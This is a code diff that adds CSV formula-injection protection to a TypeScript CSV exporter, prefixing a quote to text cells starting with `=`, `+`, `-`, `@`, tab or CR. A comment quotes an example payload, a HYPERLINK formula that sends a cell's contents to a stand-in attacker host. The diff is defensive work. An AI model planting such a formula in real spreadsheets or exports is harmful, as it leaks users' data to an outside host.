@@ -4,6 +4,12 @@
  * cp1252) and CRLF line ends. `rfc4180` is the plain interchange shape of RFC 4180: `,`,
  * decimal point, no BOM, CRLF. Both quote a field only when it holds the separator, a quote
  * or a line break, doubling quotes inside (RFC 4180 §2.5–2.7).
+ *
+ * Text from ingested files (notes, scope names, qualifiers, publications) reaches Excel, which
+ * runs a cell beginning with `=`, `+`, `-`, `@`, tab or CR as a formula
+ * (`=HYPERLINK("http://evil.example/?leak="&A2,"Klicka")`). Both formats neutralise such a
+ * text cell as OWASP's CSV-injection guidance says: a leading `'` makes it text, and the cell
+ * is quoted. Numbers are written as numbers (`-0,5` stays a number).
  */
 
 export const CSV_FORMATS = ['excel-sv', 'rfc4180'] as const;
@@ -41,10 +47,20 @@ function formatNumber(n: number, dialect: Dialect): string {
   return String(n).replace('.', dialect.decimal);
 }
 
+/** First characters that make a spreadsheet evaluate a cell (OWASP CSV injection). */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/** A text cell that a spreadsheet would evaluate, made inert: `=1+1` → `'=1+1`. */
+export function neutraliseFormula(text: string): string {
+  return FORMULA_START.test(text) ? `'${text}` : text;
+}
+
 function field(value: CsvValue, dialect: Dialect): string {
   if (value === null || value === undefined) return '';
-  const text = typeof value === 'number' ? formatNumber(value, dialect) : String(value);
-  const quote = text.includes(dialect.separator) || /["\r\n]/.test(text);
+  if (typeof value === 'number') return formatNumber(value, dialect);
+  const raw = String(value);
+  const text = neutraliseFormula(raw);
+  const quote = text !== raw || text.includes(dialect.separator) || /["\r\n]/.test(text);
   return quote ? `"${text.replace(/"/g, '""')}"` : text;
 }
 
